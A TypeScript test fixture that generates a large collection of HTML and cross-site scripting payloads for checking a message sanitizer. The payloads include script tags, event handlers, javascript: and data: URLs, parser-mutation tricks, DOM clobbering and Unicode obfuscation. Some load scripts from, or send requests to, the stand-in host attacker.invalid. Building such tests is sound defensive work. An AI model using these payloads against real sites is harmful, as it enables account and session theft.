/**
 * Messages that try to run a script, contact another host or take over a page, to test what is stored and how browsers
 * treat it. A script that runs sets `window.attacked`; every request goes to `attacker.invalid`.
 */

const RUN = 'window.attacked=1';
const HOST = 'attacker.invalid';

/** Encoded digit by digit, as attributes decode it. */
function entities(text: string): string {
  return [...text].map((letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16)};`).join('');
}

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://${HOST}/a.js></SCRIPT>`,
  `<script/x src="//${HOST}/a.js"></script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>import "https://${HOST}/a.js"</script>`,
  `<script>${RUN}`,
  `<<script>${RUN}//<</script>`,
  `<script x="</script><img src=x onerror=${RUN}>">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=https://${HOST}/a.js /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<p><script>${RUN}</p></script>`,
  `</p><script>${RUN}</script><p>`,
  `<script>/*</script><svg/onload=${RUN}>*/</script>`,
  `<link rel=import href=https://${HOST}/a.html>`,
  `<script async defer nonce="" src=https://${HOST}/a.js></script>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
];

const EVENT_TAGS = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe'],
  ...[
    'object data=x',
    'embed src=x',
    'marquee',
    'select autofocus',
    'textarea autofocus',
    'math',
    'a href=#',
  ],
  ...['p', 'strong', 'ul', 'li', 'pre', 'blockquote', 'code', 'br', 'x-tag tabindex=1', 'style', 'form'],
  ...['span class=mention data-type=mention data-id=1 data-label=x', 'a href=https://omicon.invalid'],
];
const EVENTS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onanimationstart', 'onpointerover', 'onclick'];

function* eventHandlers(): Generator<string> {
  for (const [at, tag] of EVENT_TAGS.entries()) {
    const quick = EVENTS[at % EVENTS.length];
    yield `<${tag} ${EVENTS.map((event) => `${event}=${RUN}`).join(' ')}>x`;
    yield `<${tag}/${quick}="${RUN}">x`;
    yield `<${tag}\n${quick?.toUpperCase()}\t=\n'${RUN}'>x`;
    yield `<${tag} ${quick}=${entities(RUN)}>x`;
    yield `<${tag} x="><img src=x onerror=${RUN}>" ${quick}\u00a0=${RUN}>x`;
  }
}

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106&#97&#118&#97script&colon;${RUN}`,
  `${entities('javascript:')}${RUN}`,
  `javascript&Tab;:${RUN}`,
  `javascript&NewLine;:${RUN}`,
  `jav&#x00;ascript:${RUN}`,
  `javascript://omicon.invalid/%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  'blob:https://omicon.invalid/0',
  'file:///etc/passwd',
  'filesystem:https://omicon.invalid/x',
  `view-source:https://${HOST}`,
  `//${HOST}/a`,
  `/\\${HOST}/a`,
  `\\\\${HOST}\\a`,
  `https://omicon.invalid@${HOST}/`,
  `https://user:secret@${HOST}/`,
  `feed:javascript:${RUN}`,
  `jar:https://${HOST}!/a`,
  `ws://${HOST}/`,
  `mhtml:https://${HOST}/!x`,
];
const HOLDERS = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<a href=${url.replaceAll(/\s/g, '')} target=_self>x</a>`,
  (url: string) => `<img src="${url}" srcset="${url} 2x">`,
  (url: string) => `<iframe src="${url}" srcdoc="<script>${RUN}</script>"></iframe>`,
  (url: string) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a><use href="${url}#a"/></svg>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}"><base href="${url}">`,
];

function* addresses(): Generator<string> {
  for (const [at, url] of ADDRESSES.entries()) {
    const [asLink, bare] = HOLDERS;
    if (asLink && bare) yield* [asLink(url), bare(url)];
    // The other elements are not allowed anyway, so each address is tried with two of them.
    for (const step of [0, 3]) {
      const holder = HOLDERS[2 + ((at + step) % (HOLDERS.length - 2))];
      if (holder) yield holder(url);
    }
  }
}

/** Markup that parsers interpret differently: as text or attribute, or as elements. */
const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`,
  `<svg><desc><template><style></template><img src=x onerror=${RUN}></style></desc></svg>`,
  `<svg><foreignObject><iframe><img src=x onerror=${RUN}></iframe></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noscript></div><img src=x onerror=${RUN}></noscript>`,
  `<p><noscript></p><img src=x onerror=${RUN}></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<textarea></textarea/><img src=x onerror=${RUN}>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<select><svg><style></select><img src=x onerror=${RUN}></style></svg>`,
  `<table><a href=x><tr><td><svg onload=${RUN}></td></tr></a></table>`,
  `<table><caption><svg><p><style><a id="</style><img src=1 onerror=${RUN}>"></table>`,
  `<a><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<p id="</p><img src=x onerror=${RUN}>">`,
  `<code><pre><a title="</code></pre><img src=x onerror=${RUN}>">x</a></code></pre>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<!--[if IE]><img src=x onerror=${RUN}><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><img src=x onerror=${RUN}>`,
  `<?php echo '<img src=x onerror=${RUN}>' ?>`,
  `<!DOCTYPE x [<!ENTITY a "<img src=x onerror=${RUN}>">]>&a;`,
  `<b <script>${RUN}</script>0`,
  `<img """><script>${RUN}</script>">`,
  `<img src="x\` onerror=${RUN}\`">`,
  `<img src=x onerror\u0000=${RUN}>`.replaceAll('\u0000', '\u000c'),
  `<p title='x" onpointerover="${RUN}'>x</p>`,
  `&lt;img src=x onerror=${RUN}&gt;&amp;lt;script&amp;gt;`,
  `<strong title="&quot;><img src=x onerror=${RUN}>">x</strong>`,
  `<span class=mention data-type=mention data-id=1 data-label='"><img src=x onerror=${RUN}>'>@x</span>`,
  `<span class="mention" data-type="mention" data-id="1 onclick=${RUN}" data-label="x">@x</span>`,
  `<span class="mention" data-type="mention" data-id="1"><img src=x onerror=${RUN}></span>`,
  `<span class="mention modal" data-type="mention" data-id="1" style="position:fixed;inset:0">@x</span>`,
];

const STYLES = [
  `<p style="background:url(https://${HOST}/a.png)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="-moz-binding:url(https://${HOST}/a.xml#x)">x</p>`,
  `<p style="behavior:url(https://${HOST}/a.htc)">x</p>`,
  `<style>@import "https://${HOST}/a.css";*{background:url(https://${HOST}/b)}</style>`,
  `<style>@font-face{font-family:x;src:url(https://${HOST}/f)}p{font-family:x}</style>`,
  `<link rel=stylesheet href=https://${HOST}/a.css>`,
  `<link rel="preload prefetch preconnect dns-prefetch" href=https://${HOST}/a as=script>`,
  `<svg><style>*{fill:url(https://${HOST}/a.svg#x)}</style></svg>`,
  `<p class="mantine-Modal-root" data-portal=true>x</p>`,
];

const REQUESTS = [
  `<img src=https://${HOST}/a.png>`,
  `<img srcset="https://${HOST}/a.png 1x, https://${HOST}/b.png 2x">`,
  `<picture><source srcset=https://${HOST}/a.png><img></picture>`,
  `<video poster=https://${HOST}/a.png><source src=https://${HOST}/a.mp4></video>`,
  `<audio src=https://${HOST}/a.mp3 autoplay></audio>`,
  `<input type=image src=https://${HOST}/a.png>`,
  `<body background=https://${HOST}/a.png><table background=https://${HOST}/b.png><td>x`,
  `<object data=https://${HOST}/a.swf><param name=movie value=https://${HOST}/b></object>`,
  `<embed src=https://${HOST}/a.swf>`,
  `<svg><image href=https://${HOST}/a.png /><feImage href=https://${HOST}/b /></svg>`,
  `<svg><use href=https://${HOST}/a.svg#x /></svg>`,
  `<a href=https://omicon.invalid ping=https://${HOST}/ping>x</a>`,
  `<blockquote cite=https://${HOST}/>x</blockquote>`,
  `<frameset><frame src=https://${HOST}/></frameset>`,
  `<portal src=https://${HOST}/></portal><fencedframe src=https://${HOST}/></fencedframe>`,
  `<track src=https://${HOST}/a.vtt default>`,
];

/** DOM clobbering: names that shadow properties of the page. */
const CLOBBERED = ['body', 'cookie', 'forms', 'createElement', 'defaultView', 'location', 'getElementById'];

function* clobbering(): Generator<string> {
  for (const name of CLOBBERED) {
    yield `<form name=${name}><input name=attributes><input id=nodeName></form>`;
    yield `<a id=${name}></a><a id=${name} name=toString href="cid:${RUN}">x</a>`;
    yield `<img name=${name}><p id=${name} class=${name} slot=${name} is=${name}>x</p>`;
  }
}

const ANIMATED = [
  `<svg><animate attributeName=href values="javascript:${RUN}" /><a id=x><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href to="javascript:${RUN}" begin=0s /><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onload to="${RUN}" /></svg>`,
  `<svg><handler type="application/ecmascript">${RUN}</handler></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<dialog open oncancel=${RUN}><button popovertarget=x>x</button></dialog><p popover id=x>x</p>`,
];

/** Characters that may be converted to a bracket, a quotation mark or nothing. */
const LETTERS = [
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u02c2img src=x onerror=${RUN}\u02c3`,
  `<\u200bscript>${RUN}</script>`,
  `<scr\u00adipt>${RUN}</scr\u00adipt>`,
  `<ſcript>${RUN}</ſcript>`,
  `<\u212amg src=x onerror=${RUN}>`,
  `<img src=x\u3000onerror=${RUN}>`,
  `<a href="java\u2028script:${RUN}">x</a>`,
  `<a href="\ufeffjavascript:${RUN}">x</a>`,
  `<a href="https://omicon\u3002invalid\u3002${HOST}/">x</a>`,
  `<p dir=rtl>\u202e<img src=x onerror=${RUN}>\u202c</p>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<img src=x onerror=&#0000119indow.attacked=1>`,
  `\u001b(J<img src=x onerror=${RUN}>`,
];

function* deep(): Generator<string> {
  for (const tag of [
    'div',
    'b',
    'em',
    'ul><li',
    'blockquote',
    'svg',
    'math',
    'font',
    'span',
    'table><td',
    'template',
  ])
    yield `${`<${tag}>`.repeat(500)}<img src=x onerror=${RUN}>`;
}

/** All distinct attacks. */
export const HTML_ATTACKS: readonly string[] = [
  ...new Set([
    ...SCRIPTS,
    ...eventHandlers(),
    ...addresses(),
    ...MUTATIONS,
    ...STYLES,
    ...REQUESTS,
    ...clobbering(),
    ...ANIMATED,
    ...LETTERS,
    ...deep(),
  ]),
];
